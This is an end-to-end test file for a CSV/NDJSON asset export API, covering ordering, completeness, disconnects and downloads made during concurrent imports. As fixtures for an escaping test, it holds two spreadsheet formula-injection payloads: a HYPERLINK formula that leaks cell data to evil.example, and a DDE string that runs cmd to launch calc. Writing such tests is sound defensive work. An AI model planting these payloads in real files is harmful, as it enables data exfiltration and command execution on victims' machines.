import { randomUUID } from 'node:crypto'
import { setTimeout as sleep } from 'node:timers/promises'
import { beforeAll, expect, inject, test } from 'vitest'
import { importAsOperator } from '#e2e/setup/operator.ts'
import { type Credentials, createToken, createUser } from '../support/access.ts'
import type { ListBody } from '../support/bodies.ts'
import { assetsOf, v2 } from '../support/versions.ts'
import { fetchAs, linesOf } from './csv-request.ts'

const partner = 'd0000000-0000-4000-8000-00000000000d'
const count = 12_345
const large = assetsOf(v2, 'large')
const formula = '=HYPERLINK("http://evil.example?"&A1,"Berlin, 1")'
const status = "@SUM(1+1)*cmd|' /C calc'!A0"
let as: Credentials

beforeAll(async () => {
  const location = 'd0000000-0000-4000-8000-0000000000d1'
  const records: object[] = [
    { kind: 'partner', uuid: partner, name: 'Large' },
    { kind: 'location', uuid: location, name: formula },
    { kind: 'hybrid_core', id: 'large', partner_uuid: partner, location_uuid: location, status: '-1+1' },
  ]
  for (let n = 0; n < count; n++) {
    const storage = { used: (n * 7_919) % count, total: count }
    records.push({
      kind: 'asset',
      hybrid_core_id: 'large',
      id: `n-${n}`,
      node_type: 'object_storage',
      status,
      storage,
    })
  }
  await importAsOperator(inject('env'), records)
  const email = `owner-${Date.now()}@large.example`
  await createUser(email, { partnerUuid: partner })
  as = await createToken(email, 'CSV')
})

test('CSV has every row of a large core once, in the order of the list', async () => {
  const lines = await linesOf(`${large}?sort[storage_usage]=-`, { as })
  expect(lines).toHaveLength(count)
  expect(new Set(lines.map(({ id }) => id)).size).toBe(count)
  const used = lines.map((line) => Number(line['storage_usage.raw (bytes)']))
  expect(used).toEqual(used.toSorted((a, b) => b - a))
  const page = await fetchAs(`${large}?sort[storage_usage]=-&page[number]=247`, { as, accept: null })
  const { data } = (await page.json()) as ListBody
  expect(lines.slice(246 * 50).map(({ id }) => id)).toEqual(data.map(({ id }) => id))
})
test('CSV escapes text that a spreadsheet would run as a formula', async () => {
  const [core] = await linesOf(v2.cores, { as })
  expect(core).toMatchObject({ 'location.name': `'${formula}`, status: "'-1+1" })
  const [asset] = await linesOf(`${large}?filter[id]=n-1`, { as })
  expect(asset).toMatchObject({ status: `'${status}`, id: 'n-1' })
})
test('the server continues after a client has disconnected during a download', async () => {
  for (let n = 0; n < 5; n++) {
    const reader = (await fetchAs(large, { as })).body?.getReader()
    await reader?.read()
    await reader?.cancel()
  }
  expect(await linesOf(`${large}?filter[id]=n-1*`, { as })).toHaveLength(3_456)
})

const formats = [
  { accept: 'text/csv', idsOf: (lines: string[]) => lines.slice(1).map((line) => line.slice(0, line.indexOf(','))) },
  { accept: 'application/x-ndjson', idsOf: (lines: string[]) => lines.map((line) => JSON.parse(line).id as string) },
] as const

/** The ids in the complete downloads of a list, in both formats, while records are imported again and again, and the number of imports. */
async function downloadsDuring(target: string, recordsOf: (n: number) => object[], signal: AbortSignal) {
  const over = new AbortController()
  let imports = 0
  let gapMs = 300
  const importing = (async () => {
    for (; !over.signal.aborted; imports++) {
      await importAsOperator(inject('env'), recordsOf(imports))
      await sleep(gapMs, undefined, { signal: over.signal }).catch(() => {})
    }
  })()
  const complete: string[][] = []
  try {
    for (const { accept, idsOf } of formats) {
      for (let n = 0, ofFormat = 0; n < 5 || ofFormat === 0; n++) {
        signal.throwIfAborted()
        const response = await fetchAs(target, { as, accept })
        expect(response.status).toBe(200)
        const text = await response.text().catch(() => null)
        if (text === null) {
          // On any machine a download fits between two imports at last.
          gapMs *= 1.5
        } else {
          complete.push(idsOf(text.trimEnd().split(/\r?\n/)))
          ofFormat += 1
        }
      }
    }
  } finally {
    over.abort()
    await importing
  }
  console.log(`${complete.length} complete downloads during ${imports} imports`)
  return { complete, imports }
}

test('a download of the fullest assets first has each of them once, or is aborted, while their values change', async ({
  signal,
}) => {
  const node = { kind: 'asset', hybrid_core_id: 'large', node_type: 'object_storage', status }
  const usageOf = (n: number, used: number) => ({ ...node, id: `n-${n}`, storage: { used, total: count } })
  // In each import some of the fullest become the emptiest, and the other way round.
  const recordsOf = (n: number) =>
    Array.from({ length: 100 }, (_, m) => usageOf(n * 100 + m, m % 2 === 0 ? count - m : m))
  const { complete } = await downloadsDuring(`${large}?sort[storage_usage]=-`, recordsOf, signal)
  for (const ids of complete) expect([ids.length, new Set(ids).size]).toEqual([count, count])
})
test('a download during an import is complete and without duplicates, or is aborted', async ({ signal }) => {
  const before = (await linesOf(large, { as })).length
  const attempt = randomUUID()
  const record = (n: number) => ({
    kind: 'asset',
    hybrid_core_id: 'large',
    id: `${attempt}-${n}`,
    node_type: 'object_storage',
    status,
  })
  const recordsOf = (n: number) => [0, 1, 2].map((m) => record(n * 3 + m))
  const { complete, imports } = await downloadsDuring(large, recordsOf, signal)
  for (const ids of complete) {
    expect(new Set(ids).size).toBe(ids.length)
    expect((ids.length - before) % 3).toBe(0)
  }
  expect(await linesOf(large, { as })).toHaveLength(before + imports * 3)
})
